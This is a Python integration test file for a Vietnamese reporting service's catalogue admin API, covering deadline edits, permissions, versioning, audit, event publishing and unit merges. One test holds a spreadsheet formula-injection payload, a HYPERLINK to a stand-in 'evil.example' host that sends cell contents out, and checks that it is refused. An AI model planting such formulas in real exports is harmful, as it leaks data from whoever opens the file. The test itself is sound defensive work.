"""The catalogue changed without a release: validated whole, versioned, audited, published, in force."""

from __future__ import annotations

from typing import Any

import asyncpg

from bdhvs_shared.catalogue import catalogue_from_texts
from bdhvs_shared.events import CataloguePublished
from intake.bootstrap import create_app
from intake.settings import IntakeSettings
from support.apps import eventually, running
from support.bus import stream_messages
from support.events import REPORT_BODY
from support.intake import auth


async def test_an_admin_moves_the_monthly_deadline_and_everyone_sees_the_new_version(
    intake: Any, db: asyncpg.Connection, clean_nats: str, database_url: str
) -> None:
    client, tokens = intake
    before = (await client.get("/api/v1/catalogue", headers=auth(tokens["commune"]))).json()
    forms = (
        await client.get("/api/v1/admin/catalogue/files/forms.yaml", headers=auth(tokens["admin"]))
    ).json()
    assert forms["version"] == before["version"]
    edited = forms["content"].replace(
        "due_day: 20\n    as_of_day: 14\n", "due_day: 18\n    as_of_day: 14\n", 1
    )
    assert edited != forms["content"]

    refused = await client.put(
        "/api/v1/admin/catalogue/files/forms.yaml",
        json={"content": edited, "summary": "Hạn nộp báo cáo tháng trước ngày 18"},
        headers=auth(tokens["operator"]),
    )
    assert refused.status_code == 403
    reply = await client.put(
        "/api/v1/admin/catalogue/files/forms.yaml",
        json={"content": edited, "summary": "Hạn nộp báo cáo tháng trước ngày 18"},
        headers=auth(tokens["admin"]),
    )
    assert reply.status_code == 200, reply.text
    after = reply.json()
    assert after["version"] != before["version"]
    assert next(f for f in after["forms"] if f["code"] == "monthly")["due_day"] == 18

    report = await client.post("/api/v1/reports", json=REPORT_BODY, headers=auth(tokens["commune"]))
    assert report.json()["deadline"] == "2026-03-18T00:00:00+07:00"

    audit = (await client.get("/api/v1/admin/catalogue/versions", headers=auth(tokens["admin"]))).json()
    assert audit["total"] == 1
    entry = audit["items"][0]
    assert (entry["version"], entry["previous_version"]) == (after["version"], before["version"])
    assert entry["changed_files"] == ["forms.yaml"] and entry["changed_by"].startswith("admin:")

    messages = await eventually(
        lambda: stream_messages(clean_nats, "CATALOGUE", "bdhvs.catalogue.published"), lambda m: len(m) == 1
    )
    event = CataloguePublished.model_validate_json(messages[0].data)
    rebuilt = catalogue_from_texts(event.files)
    assert rebuilt.version == event.version == after["version"]

    # A restarted (or another) replica starts with the published version.
    settings = IntakeSettings(nats_url=clean_nats, database_url=database_url)
    async with running(create_app(settings)) as other:
        seen = (await other.get("/api/v1/catalogue", headers=auth(tokens["commune"]))).json()
    assert seen["version"] == after["version"]


async def test_an_inconsistent_catalogue_is_refused_whole(intake: Any, db: asyncpg.Connection) -> None:
    client, tokens = intake
    forms = (
        await client.get("/api/v1/admin/catalogue/files/forms.yaml", headers=auth(tokens["admin"]))
    ).json()
    broken = forms["content"].replace("indicators: [c, d]", "indicators: [c, zz]", 1)
    reply = await client.put(
        "/api/v1/admin/catalogue/files/forms.yaml",
        json={"content": broken, "summary": "thử"},
        headers=auth(tokens["admin"]),
    )
    assert reply.status_code == 422
    error = reply.json()["errors"][0]
    assert error["code"] == "catalogue.invalid" and "zz" in error["message"]
    assert await db.fetchval("SELECT count(*) FROM intake.catalogue_versions") == 0
    unknown = await client.put(
        "/api/v1/admin/catalogue/files/secrets.txt",
        json={"content": "x", "summary": "thử"},
        headers=auth(tokens["admin"]),
    )
    assert unknown.status_code == 422


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


async def test_a_name_that_would_run_as_a_spreadsheet_formula_is_refused(
    intake: Any, db: asyncpg.Connection
) -> None:
    """Issue 11: such a unit name reached kpi's CSV exports as-is and its .xlsx as a live formula."""
    client, tokens = intake
    units = (
        await client.get("/api/v1/admin/catalogue/files/units.csv", headers=auth(tokens["admin"]))
    ).json()
    quoted = '"' + EVIL.replace('"', '""') + '"'
    assert "09313,Chi Lăng," in units["content"]
    reply = await client.put(
        "/api/v1/admin/catalogue/files/units.csv",
        json={
            "content": units["content"].replace("09313,Chi Lăng,", f"09313,{quoted},", 1),
            "summary": "thử",
        },
        headers=auth(tokens["admin"]),
    )
    assert reply.status_code == 422, reply.text
    error = reply.json()["errors"][0]
    assert error["code"] == "catalogue.formula_name" and error["field"] == "content"
    assert "units.csv" in error["message"] and "09313" in error["message"] and "“name”" in error["message"]
    assert "công thức" in error["message"]
    forms = (
        await client.get("/api/v1/admin/catalogue/files/forms.yaml", headers=auth(tokens["admin"]))
    ).json()
    renamed = forms["content"].replace('name_vi: "Báo cáo tháng"', 'name_vi: "+Báo cáo tháng"', 1)
    assert renamed != forms["content"]
    reply = await client.put(
        "/api/v1/admin/catalogue/files/forms.yaml",
        json={"content": renamed, "summary": "thử"},
        headers=auth(tokens["admin"]),
    )
    assert reply.status_code == 422 and reply.json()["errors"][0]["code"] == "catalogue.formula_name"
    assert "forms.yaml" in reply.json()["errors"][0]["message"]
    merge = {
        "sources": ["09313", "09292"],
        "new_unit": {"code": "09999", "name": "-Chi Lăng", "kind": "xa"},
        "effective": "2026-04-01",
        "summary": "Sáp nhập (thử nghiệm)",
    }
    reply = await client.post("/api/v1/admin/units/merge", json=merge, headers=auth(tokens["admin"]))
    assert reply.status_code == 422 and reply.json()["errors"][0]["code"] == "catalogue.formula_name"
    assert await db.fetchval("SELECT count(*) FROM intake.catalogue_versions") == 0


async def test_a_merge_is_one_admin_operation_and_reports_follow_it(
    intake: Any, db: asyncpg.Connection
) -> None:
    client, tokens = intake
    merge = {
        "sources": ["09313", "09292"],
        "new_unit": {"code": "09999", "name": "Chi Lăng Phù Lãng", "kind": "xa"},
        "effective": "2026-04-01",
        "summary": "Sáp nhập theo nghị quyết (thử nghiệm)",
    }
    reply = await client.post("/api/v1/admin/units/merge", json=merge, headers=auth(tokens["admin"]))
    assert reply.status_code == 200, reply.text
    assert reply.json()["units"] == 100  # 99 + the new one; the merged two stay, closed
    # March figures still belong to Chi Lăng; April is the new unit's.
    march = await client.post("/api/v1/reports", json=REPORT_BODY, headers=auth(tokens["commune"]))
    assert march.status_code == 201, march.text
    april = await client.post(
        "/api/v1/reports", json={**REPORT_BODY, "period": "2026-04"}, headers=auth(tokens["operator"])
    )
    assert april.status_code == 422 and april.json()["errors"][0]["code"] == "unit.inactive"
    again = await client.post("/api/v1/admin/units/merge", json=merge, headers=auth(tokens["admin"]))
    assert again.status_code == 422 and again.json()["errors"][0]["code"] == "unit.history_invalid"
    audit = (await client.get("/api/v1/admin/catalogue/versions", headers=auth(tokens["admin"]))).json()
    assert [v["changed_files"] for v in audit["items"]] == [["units.csv"]]


async def test_anyone_signed_in_reads_the_published_files_the_web_lays_its_forms_out_from(
    intake: Any, db: asyncpg.Connection
) -> None:
    client, tokens = intake
    shipped = (await client.get("/api/v1/catalogue/files", headers=auth(tokens["commune"]))).json()
    assert (
        catalogue_from_texts(shipped["files"]).version
        == (await client.get("/api/v1/catalogue", headers=auth(tokens["commune"]))).json()["version"]
    )
    edited = shipped["files"]["forms.yaml"].replace("due_day: 20\n", "due_day: 19\n", 1)
    reply = await client.put(
        "/api/v1/admin/catalogue/files/forms.yaml",
        json={"content": edited, "summary": "Hạn nộp trước ngày 19"},
        headers=auth(tokens["admin"]),
    )
    assert reply.status_code == 200, reply.text
    published = (await client.get("/api/v1/catalogue/files", headers=auth(tokens["commune"]))).json()
    assert published["files"]["forms.yaml"] == edited
    assert catalogue_from_texts(published["files"]).version == reply.json()["version"]
    assert (await client.get("/api/v1/catalogue/files")).status_code == 401
